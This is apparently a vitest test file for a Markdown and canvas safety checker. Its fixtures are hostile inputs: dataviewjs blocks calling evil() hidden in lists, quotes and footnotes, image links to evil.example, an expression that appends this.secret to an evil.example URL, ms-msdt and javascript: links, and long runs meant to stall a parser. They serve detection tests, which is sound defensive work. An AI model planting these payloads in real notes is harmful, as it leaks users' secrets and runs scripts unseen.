/** Text that readers take for something else than the check could. */
import { describe, expect, test } from 'vitest';
import { addedParts, isUncertain } from './uncertain-variants';

const E = 'https://evil.example/p.png';

describe('text is uncertain', () => {
  test.each([
    'Price: $$\n\n~~~dataviewjs\nevil()\n~~~\n',
    'costs \\$$ a\n\n~~~dataviewjs\nevil()\n~~~\n',
    'Words\n2. ~~~\n   ```dataviewjs\n   evil()\n   ```\n   ~~~\n',
    `Words\n2. \`\`\`\n   ![x](${E})\n   \`\`\`\n`,
    `Words\n    ~~~\n    ![x](${E})\n    ~~~\n`,
    `> Words\n>\t\t~~~\n>\t\t![x](${E})\n>\t\t~~~\n`,
    `- Words\n      ~~~\n      ![x](${E})\n      ~~~\n`,
    `- [ ] ~~~\n      ![x](${E})\n      ~~~\n`,
    '- ~~~js\n\u00a0\n  ```dataviewjs\n  evil()\n  ```\n  ~~~\n',
    `- \`\`\`js\n\u00a0\n  ![x](${E})\n  \`\`\`\n`,
    'See[^1].\n\n[^1]:~~~dataviewjs\n    evil()\n',
    `| a | b |\n|---|---|\n| \`![x](${E}) | \` |\n`,
    '| a | b | c |\n|---|---|---|\n| a ` b | `= this.file.name` | c ` d |\n',
    `[x](a "b) \`c") ![i](${E}) \`d\n`,
    `[x](a\n"\`b") ![i](${E})\`\n`,
    `[x][a\`b] ![i](${E}) \`c\n\n[a\`b]: /u\`\n`,
    `www.a.com/\`b ![i](${E}) \`c\`\n`,
    '```\n=\n"!" + "[](https:" + "//evil.example/?" + this.secret + ")"\n```\n',
    'See [Invoice][r].\n\n[r]:\nms-msdt:/id\n',
    '[Invoice][^r]\n\n[^r]: ms-msdt:/id\n',
    'a $x\n2. \\href{javascript:alert(1)}{y}\n3. z$ b\n',
    'a $x\n\u00a0\n\\href{javascript:alert(1)}{y}\n\u00a0\nz$\n',
    '---\ncover: https:/evil.example/p.png\n---\n',
    '---\nbanner: https:\\\\evil.example\\p.png\n---\n',
    '---\ncover: https:evil.example/p.png\n---\n',
    '---\nlink: javascript:alert(1)\n---\n',
    `---\n# ![x](${E})\na: 1\n---\nText\n`,
    `---\n"![x](${E})": 1\n---\n`,
    '```js\nlet a = "\u2028";\n```\n',
  ])('%j', (text) => {
    expect(isUncertain(text)).toBe(true);
  });

  test.each([
    '{"nodes":[{"id":"a","type":"link","url":"evil.example/p"}],"edges":[]}',
    `{"nodes":[],"edges":[],"metadata":{"cover":"${E}"}}`,
  ])('in a canvas: %s', (text) => {
    expect(isUncertain(text, 'A.canvas')).toBe(true);
  });
});

describe('a change wakes', () => {
  const script = (indent: string) =>
    ['```dataviewjs', 'evil()', '```'].map((line) => `${indent}${line}\n`).join('');

  test.each([
    ['<span>a</span> ![x]\n', `<span>a</span> ![x]\n\n[x]: ${E}\n`],
    [`-\n\n${script('    ')}`, `- x\n\n${script('    ')}`],
    [`- a\n\n${script('      ')}`, `-   a\n\n${script('      ')}`],
    [`* * *\n\n${script('    ')}`, `* x\n\n${script('    ')}`],
    [`Words\n2. b\n\n${script('    ')}`, `Words\n\n2. b\n\n${script('    ')}`],
    [`<div>\n- b\n\n${script('    ')}`, `<div>\n\n- b\n\n${script('    ')}`],
    [`![x]\n\n    [x]: ${E}\n`, `![x]\n\n- a\n\n    [x]: ${E}\n`],
  ])('%j to %j', (before, after) => {
    expect(addedParts('Note.md', before, after)).not.toEqual([]);
  });
});

test.each([
  ['tildes', `${'~'.repeat(100_000)} a b\n`],
  ['tabs after a fence', `~~~${'\t'.repeat(100_000)}\``],
  ['slashes in a link', `[a](${'/'.repeat(100_000)}\\)\n`],
  ['commas in a language', `\`\`\`${','.repeat(100_000)}!\nx\n\`\`\`\n`],
  ['blanks after a fence', `\`\`\`js\ncode\n\`\`\`${' '.repeat(100_000)}x\n\`\`\`\n`],
  ['dashes', `${'-'.repeat(100_000)}x`],
  ['code', '`a` ``b`` '.repeat(20_000)],
  ['labels', '[ab]\n'.repeat(20_000)],
  ['open labels', '[ab\n'.repeat(20_000)],
  ['escaped labels', '[\\a\n'.repeat(20_000)],
  ['footnotes', `${'[^a]: '.repeat(20_000)}x`],
  ['definitions', '[a]: /b "c\n'.repeat(20_000)],
  ['ends of labels', 'a]: b\n'.repeat(20_000)],
])('a long run of %s is read to its end', (_, text) => {
  expect(isUncertain(`${text}\n\n<iframe src="x">\n`)).toBe(true);
});
